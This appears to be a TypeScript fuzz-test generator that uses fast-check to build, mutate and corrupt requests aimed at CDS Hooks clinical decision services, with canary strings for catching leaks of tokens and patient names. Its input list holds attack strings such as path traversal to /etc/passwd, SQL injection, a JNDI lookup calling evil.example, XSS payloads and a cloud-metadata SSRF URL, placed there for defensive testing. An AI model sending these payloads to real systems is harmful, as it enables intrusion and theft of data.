import { readFileSync } from 'node:fs';
import fc from 'fast-check';

/** Words that must never come out again: not in a log, not in an error. */
export const canary = { token: 'canary-access-token-93b1', patient: 'Zzyzxperson' } as const;

export interface HostileRequest {
  readonly kind: string;
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: string | Buffer;
}

const services = ['lab-report-results', 'chest-xray-change', 'order-select-advice', 'order-sign-advice'] as const;
const hooks = ['patient-view', 'patient-view', 'order-select', 'order-sign'] as const;
const json = { 'content-type': 'application/json' };
const example = (name: string) =>
  JSON.parse(readFileSync(new URL(`../../../examples/hooks/${name}.json`, import.meta.url), 'utf8'));

/** Whatever has broken a service somewhere. */
const nasty: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 12,
    arbitrary: fc.constantFrom<unknown>(
      null,
      '',
      [],
      {},
      0,
      -0,
      -1,
      1e308,
      Number.MAX_SAFE_INTEGER + 2,
      true,
      false,
      '\u0000',
      '\ud800',
      '\u202e\u2066',
      '../../etc/passwd',
      '1&_include=*',
      '%2e%2e%2f',
      "' OR 1=1 --",
      '$\u007bjndi:ldap://evil.example/x}',
      '{{context.patientId}}',
      '<img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      'http://169.254.169.254/latest/meta-data',
      'https://user:pw@evil.example/fhir',
      'file:///etc/passwd',
      '2026-13-45T99:99:99Z',
      '9'.repeat(400),
      canary.patient,
    ),
  },
  { weight: 5, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 60_000 }).map((length) => 'x'.repeat(length)) },
  { weight: 1, arbitrary: fc.integer({ min: 1, max: 3000 }).map(nested) },
  { weight: 3, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

function nested(levels: number): unknown {
  let value: unknown = 'deep';
  for (let level = 0; level < levels; level += 1) {
    value = level % 2 === 0 ? [value] : { a: value };
  }
  return value;
}

const key = fc.oneof(
  fc.constantFrom(
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'resourceType',
    'reference',
    'entry',
    'link',
    'extension',
    '',
  ),
  fc.string({ maxLength: 12 }),
);

const patient = { resourceType: 'Patient', id: 'sample-potassium', name: [{ family: canary.patient }] };
const resource = fc.oneof(
  fc.constant<unknown>(patient),
  fc.record({
    resourceType: fc.oneof(
      fc.constantFrom(
        'Observation',
        'DiagnosticReport',
        'DocumentReference',
        'ImagingStudy',
        'ServiceRequest',
        'Bundle',
        'OperationOutcome',
        'Parameters',
      ),
      fc.string({ maxLength: 10 }),
    ),
    id: nasty,
    subject: fc.oneof(fc.constant({ reference: 'Patient/sample-potassium', display: canary.patient }), nasty),
    code: nasty,
    status: nasty,
    effectiveDateTime: nasty,
    valueQuantity: nasty,
    content: nasty,
    presentedForm: nasty,
    series: nasty,
  }),
);
const bundle = fc.record({
  resourceType: fc.constant('Bundle'),
  type: nasty,
  entry: fc.oneof(fc.array(fc.oneof(fc.record({ resource }), nasty), { maxLength: 6 }), nasty),
  link: fc.oneof(fc.array(fc.record({ relation: fc.constant('next'), url: nasty }), { maxLength: 2 }), nasty),
});
const value = fc.oneof(
  { weight: 10, arbitrary: resource },
  { weight: 10, arbitrary: bundle },
  { weight: 1, arbitrary: nasty },
);

/** Built from nothing, in the shape of a request, with anything in any place. */
/** Draft orders whose envelope is right, with anything inside of each. */
const orders = fc.record({
  resourceType: fc.constant('Bundle'),
  entry: fc.array(
    fc.record({
      resource: fc.record({
        resourceType: fc.constant('ServiceRequest'),
        id: fc.constant('d1'),
        subject: fc.constant({ reference: 'Patient/sample-potassium', display: canary.patient }),
        code: fc.oneof(fc.constant<unknown>({ coding: [{ system: 'http://loinc.org', code: '36813-4' }] }), nasty),
        category: nasty,
        status: nasty,
        authoredOn: nasty,
        orderDetail: nasty,
      }),
    }),
    { maxLength: 5 },
  ),
});

const built = fc
  .record({
    service: fc.integer({ min: 0, max: 3 }),
    hook: fc.oneof({ weight: 30, arbitrary: fc.constant<unknown>(undefined) }, nasty),
    hookInstance: fc.oneof({ weight: 30, arbitrary: fc.uuid() as fc.Arbitrary<unknown> }, nasty),
    userId: fc.oneof({ weight: 30, arbitrary: fc.constant<unknown>('Practitioner/example') }, nasty),
    patientId: fc.oneof({ weight: 30, arbitrary: fc.constantFrom<unknown>('sample-potassium', 'nobody') }, nasty),
    draftOrders: fc.oneof({ weight: 12, arbitrary: orders }, bundle, nasty),
    selections: fc.oneof(
      { weight: 8, arbitrary: fc.constant<unknown>(['ServiceRequest/d1']) },
      fc.array(nasty, { maxLength: 4 }),
      nasty,
    ),
    prefetch: fc.oneof(
      {
        weight: 12,
        arbitrary: fc.dictionary(
          fc.oneof(fc.constantFrom('patient', 'reports', 'documents', 'studies', 'labs', 'requests'), key),
          value,
          { maxKeys: 6 },
        ),
      },
      nasty,
    ),
    fhirServer: fc.oneof({ weight: 20, arbitrary: fc.constant<unknown>(undefined) }, nasty),
    more: fc.dictionary(key, nasty, { maxKeys: 3 }),
  })
  .map(({ service, hook, hookInstance, userId, patientId, draftOrders, selections, prefetch, fhirServer, more }) => ({
    kind: 'built',
    method: 'POST',
    path: `/cds-services/${services[service]}`,
    headers: json,
    body: text({
      ...more,
      hook: hook ?? hooks[service],
      hookInstance,
      context: { userId, patientId, draftOrders, selections },
      prefetch,
      ...(fhirServer === undefined ? {} : { fhirServer, fhirAuthorization: { access_token: canary.token } }),
    }),
  }));

/** JSON of what JSON.stringify may refuse. */
function text(body: unknown): string {
  return JSON.stringify(body) ?? 'null';
}

const seeds = [
  ...[
    'lab-report-results',
    'chest-xray-change',
    'order-select-advice',
    'order-sign-advice',
    'order-sign-prefetched',
  ].map((name) => {
    const path = `/cds-services/${name === 'order-sign-prefetched' ? 'order-sign-advice' : name}`;
    return {
      path,
      body: {
        ...example(name),
        // Without one the source is meant: what is changed then reaches the services.
        fhirServer: undefined,
        extension: { 'com.example.token': canary.token, 'com.example.name': canary.patient },
      },
    };
  }),
  { path: '/cds-services/lab-report-results/feedback', body: example('feedback') },
];

interface Mutation {
  readonly at: number;
  readonly how: 'replace' | 'delete' | 'rename' | 'wrap' | 'repeat' | 'add';
  readonly key: string;
  readonly with: unknown;
}
const mutation: fc.Arbitrary<Mutation> = fc.record({
  at: fc.nat(),
  how: fc.constantFrom('replace', 'delete', 'rename', 'wrap', 'repeat', 'add'),
  key,
  with: nasty,
});

/** Real requests with a few things in them changed. */
const mutated = fc
  .record({ seed: fc.nat(seeds.length - 1), mutations: fc.array(mutation, { minLength: 1, maxLength: 5 }) })
  .map(({ seed, mutations }) => {
    const { path, body } = seeds[seed]!;
    return {
      kind: 'mutated',
      method: 'POST',
      path,
      headers: json,
      body: text(mutations.reduce(mutate, structuredClone(body))),
    };
  });

// biome-ignore lint/suspicious/noExplicitAny: any place of any JSON
function mutate(root: any, { at, how, key: name, with: other }: Mutation): any {
  // biome-ignore lint/suspicious/noExplicitAny: the same
  const places: [any, string][] = [];
  // biome-ignore lint/suspicious/noExplicitAny: the same
  const walk = (node: any, depth: number) => {
    if (typeof node !== 'object' || node === null || depth > 40) {
      return;
    }
    for (const member of Object.keys(node)) {
      places.push([node, member]);
      walk(node[member], depth + 1);
    }
  };
  walk(root, 0);
  const place = places[at % Math.max(1, places.length)];
  if (place === undefined) {
    return other;
  }
  const [node, member] = place;
  if (how === 'replace') node[member] = other;
  else if (how === 'delete') delete node[member];
  else if (how === 'wrap') node[member] = [node[member]];
  else if (how === 'repeat') node[member] = repeated(node[member]);
  else if (how === 'rename' && !Array.isArray(node)) {
    Object.defineProperty(node, name, { value: node[member], enumerable: true, configurable: true, writable: true });
  } else
    Object.defineProperty(node, Array.isArray(node) ? String(node.length) : name, {
      value: other,
      enumerable: true,
      configurable: true,
      writable: true,
    });
  return root;
}

/** As often as makes 200 KB of it, three hundred times at most: repeated twice it must not fill the memory. */
function repeated(value: unknown): unknown[] {
  const json = JSON.stringify(value) ?? 'null';
  // Copies, not the same object again: what is changed in one later must not change in all.
  return Array.from({ length: Math.max(2, Math.min(300, Math.floor(200_000 / json.length))) }, () => JSON.parse(json));
}

/** Bytes that are no request at all, and requests that are none of ours. */
const raw = fc
  .record({
    seed: fc.nat(seeds.length - 1),
    cut: fc.double({ min: 0, max: 1, noNaN: true }),
    how: fc.constantFrom(
      'cut',
      'bytes',
      'utf-16',
      'bom',
      'twice',
      'type',
      'encoding',
      'method',
      'path',
      'header',
      'comment',
    ),
    bytes: fc.uint8Array({ maxLength: 400 }),
    word: fc.string({ unit: 'grapheme-ascii', maxLength: 40 }),
  })
  .map(({ seed, cut, how, bytes, word }): HostileRequest => {
    const { path, body } = seeds[seed]!;
    const whole = JSON.stringify(body);
    const plain = { kind: `raw ${how}`, method: 'POST', path, headers: json, body: whole };
    const safe = word.replace(/[^\x21-\x7e]/g, '');
    switch (how) {
      case 'cut':
        return { ...plain, body: whole.slice(0, Math.floor(whole.length * cut)) };
      case 'bytes':
        return { ...plain, body: Buffer.from(bytes) };
      case 'utf-16':
        return { ...plain, body: Buffer.from(whole, 'utf16le') };
      case 'bom':
        return { ...plain, body: `\ufeff${whole}` };
      case 'twice':
        return { ...plain, body: whole + whole };
      case 'comment':
        return { ...plain, body: `/* ${canary.patient} */${whole.replace('}', ',}')}` };
      case 'type':
        return { ...plain, headers: { 'content-type': `application/json; charset=${safe || 'x'}` } };
      case 'encoding':
        return { ...plain, headers: { ...json, 'content-encoding': ['gzip', 'br', 'deflate', 'x'][seed % 4]! } };
      case 'method':
        return { ...plain, method: ['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD', 'GET'][seed % 6]! };
      case 'path':
        return {
          ...plain,
          path: `/cds-services/${['%', '%00', '..%2f..', '%E0%A4%A', encodeURIComponent(word), 'x/feedback/y'][seed % 6]}`,
        };
      default:
        return {
          ...plain,
          headers: { ...json, 'x-request-id': safe.repeat(20), origin: `https://${safe}`, 'x-forwarded-for': safe },
        };
    }
  });

export const hostileRequest: fc.Arbitrary<HostileRequest> = fc.oneof(
  { weight: 5, arbitrary: built },
  { weight: 5, arbitrary: mutated },
  { weight: 2, arbitrary: raw },
);

/** The same requests for the same seed. */
export function hostileRequests(count: number, seed: number): readonly HostileRequest[] {
  return fc.sample(hostileRequest, { numRuns: count, seed });
}
